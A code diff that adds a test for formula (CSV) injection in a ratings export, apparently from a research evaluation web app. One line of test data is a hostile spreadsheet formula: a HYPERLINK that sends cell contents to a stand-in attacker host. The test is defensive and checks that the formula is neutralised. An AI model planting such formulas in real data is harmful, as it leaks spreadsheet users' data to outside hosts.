@@ -480,3 +480,28 @@ def test_session_cookie_flags(tmp_path: Path, secure: bool) -> None:
     flags = {f.strip().split("=")[0].lower() for f in cookies[0].split(";")[1:]}
     assert {"httponly", "samesite"} <= flags
     assert ("secure" in flags) is secure
+
+
+def test_spreadsheet_safe_export_neutralises_formulas_only_when_asked(tmp_path: Path) -> None:
+    """OWASP CSV injection: an evaluator's comment starting with '=' must not run in Excel."""
+    import io
+
+    d, made, app = _setup(tmp_path, practice=0)
+    tok = made.evaluators["token"].iloc[0]
+    c = app.test_client()
+    page = _start(c, tok)
+    evil = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
+    data = answer_form(page, np.random.default_rng(0)) | {"comment": evil}
+    assert c.post(form_action(page), data=data).status_code == 303
+    rt = made.researcher_token
+    raw = pd.read_csv(io.StringIO(c.get(f"/r/{rt}/ratings.csv").get_data(as_text=True)))
+    safe = pd.read_csv(io.StringIO(
+        c.get(f"/r/{rt}/ratings.csv?spreadsheet=1").get_data(as_text=True)))
+    assert set(raw["comment"].dropna()) == {evil}  # the analysis export is exact
+    assert set(safe["comment"].dropna()) == {"'" + evil}
+    assert safe["score"].tolist() == raw["score"].tolist()  # numbers untouched
+    out = tmp_path / "safe.csv"
+    r = CliRunner().invoke(cli_app, ["experiment", "export", str(d), "--out", str(out),
+                                     "--spreadsheet-safe"])
+    assert r.exit_code == 0, r.output
+    assert set(pd.read_csv(out)["comment"].dropna()) == {"'" + evil}
